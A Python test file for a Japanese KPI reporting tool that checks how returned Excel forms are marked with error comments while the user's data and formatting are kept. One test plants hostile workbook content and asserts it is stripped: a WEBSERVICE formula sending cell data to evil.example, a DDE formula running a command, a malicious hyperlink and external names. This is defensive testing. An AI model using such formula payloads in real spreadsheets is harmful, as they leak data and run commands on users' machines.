"""The form that comes back: marked where something is to be mended, otherwise as it was, and with nothing that acts."""

import io
import re
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation

from dxkpi import i18n
from dxkpi.plan import Plan
from dxkpi.submission import Column, Form
from dxkpi.submission.columns import ACTUALS_SHEET
from dxkpi.workbook import dress, marked, template
from tests import forms

MARKS = [
    {"sheet": ACTUALS_SHEET, "cell": "K9", "severity": "error", "message": "数値を入れてください。"},
    {"sheet": ACTUALS_SHEET, "cell": "K9", "severity": "hold", "message": "正しいですか。"},
    {"sheet": ACTUALS_SHEET, "cell": "K6", "severity": "hold", "message": "100%を超えています。"},
]


@pytest.fixture
def form(sample_plan: Plan) -> Form:
    return Form(sample_plan, 2025, "人事課", 7, 2025)


@pytest.fixture
def filled_in(form: Form) -> bytes:
    return forms.fill(template.make(form), {"K13": {Column.VALUE: 101.2}, "K18": {Column.VALUE: "集計中"}})


def mark(content: bytes, form: Form, marks: Any = MARKS) -> bytes:
    i18n.use("ja")
    return marked.mark(content, marks, dress.rules(form))


def sheet_of(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))[ACTUALS_SHEET]


def test_the_cells_are_coloured_and_say_why(form: Form, filled_in: bytes) -> None:
    sheet = sheet_of(mark(filled_in, form))
    assert sheet["K9"].fill.start_color.rgb.endswith(dress.ERROR)
    assert sheet["K6"].fill.start_color.rgb.endswith(dress.HELD)
    assert sheet["K9"].comment.text == "× 数値を入れてください。\n△ 正しいですか。"
    assert sheet["P5"].value == dress.RESULT_HEADING
    assert sheet["P9"].value == "× K9 数値を入れてください。\n△ K9 正しいですか。"
    assert sheet["A3"].value.startswith("× 赤いセル1か所を直し")


def test_what_was_filled_in_is_not_changed(form: Form, filled_in: bytes) -> None:
    before, after = sheet_of(filled_in), sheet_of(mark(filled_in, form))
    for row in before.iter_rows(min_row=6, max_row=10, max_col=13):
        for cell in row:
            assert after[cell.coordinate].value == cell.value
            assert after[cell.coordinate].number_format == cell.number_format


def test_their_own_formatting_and_comments_are_kept(form: Form, filled_in: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(filled_in))
    sheet = book[ACTUALS_SHEET]
    sheet["O8"].font = Font(name="Meiryo", italic=True, size=14)
    sheet["O8"].comment = Comment("あとで確認", "山田")
    sheet.column_dimensions["O"].width = 77
    saved = io.BytesIO()
    book.save(saved)
    after = sheet_of(mark(saved.getvalue(), form))
    assert (after["O8"].font.name, after["O8"].font.italic) == ("Meiryo", True)
    assert after["O8"].comment.text == "あとで確認"
    assert after.column_dimensions["O"].width == 77


def test_a_second_round_takes_the_first_marks_away(form: Form, filled_in: bytes) -> None:
    again = sheet_of(mark(mark(filled_in, form), form, MARKS[2:]))
    assert again["K9"].comment is None
    assert again["K9"].fill.start_color.rgb.endswith(dress.INPUT)
    assert again["P9"].value is None
    assert [cell.value for cell in again[5]].count(dress.RESULT_HEADING) == 1


def test_dropdowns_colours_and_the_judging_formula_are_there_again(form: Form, filled_in: bytes) -> None:
    fresh, after = sheet_of(template.make(form)), sheet_of(mark(filled_in, form))
    assert [after.cell(row, 14).value for row in range(6, 11)] == [fresh.cell(row, 14).value for row in range(6, 11)]
    assert len(after.data_validations.dataValidation) == len(fresh.data_validations.dataValidation)
    assert len(list(after.conditional_formatting)) == 1


def test_nothing_of_theirs_that_acts_is_given_back(form: Form, filled_in: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(filled_in))
    sheet = book[ACTUALS_SHEET]
    sheet["O6"] = '=WEBSERVICE("http://evil.example/?"&K6)'
    sheet["O7"] = "=cmd|' /C calc'!A0"
    sheet["O8"] = "資料"
    sheet["O8"].hyperlink = "http://evil.example/link"
    sheet.add_data_validation(DataValidation(type="custom", formula1='=evil("x")'))
    book.defined_names["evil_name"] = openpyxl.workbook.defined_name.DefinedName("evil_name", attr_text="[1]evil!$A$1")
    saved = io.BytesIO()
    book.save(saved)
    with ZipFile(io.BytesIO(mark(saved.getvalue(), form))) as parts:
        names, everything = parts.namelist(), b"".join(parts.read(name) for name in parts.namelist()).decode()
    assert "evil" not in everything
    assert "cmd|" not in everything
    assert not any("externalLink" in name or "vba" in name.lower() for name in names)
    formulas = re.findall(r"<f>(.*?)</f>", everything)
    assert all(formula.startswith(("IF(ISNUMBER(", "IF($K")) for formula in formulas)


def test_text_that_looks_like_a_formula_stays_text(form: Form, filled_in: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(filled_in))
    book[ACTUALS_SHEET]["O6"] = "=1+1"
    book[ACTUALS_SHEET]["O6"].data_type = "s"
    saved = io.BytesIO()
    book.save(saved)
    cell = sheet_of(mark(saved.getvalue(), form))["O6"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_rows_and_columns_that_were_moved_are_marked_where_they_are(form: Form, filled_in: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(filled_in))
    book[ACTUALS_SHEET].insert_cols(1, 2)
    book[ACTUALS_SHEET].insert_rows(1, 3)
    saved = io.BytesIO()
    book.save(saved)
    moved = [{"sheet": ACTUALS_SHEET, "cell": "M12", "severity": "error", "message": "数値を入れてください。"}]
    after = sheet_of(mark(saved.getvalue(), form, moved))
    assert after["R8"].value == dress.RESULT_HEADING
    assert after["R12"].value.startswith("× M12")
    assert after["P9"].value.startswith("=IF(ISNUMBER($M9)")
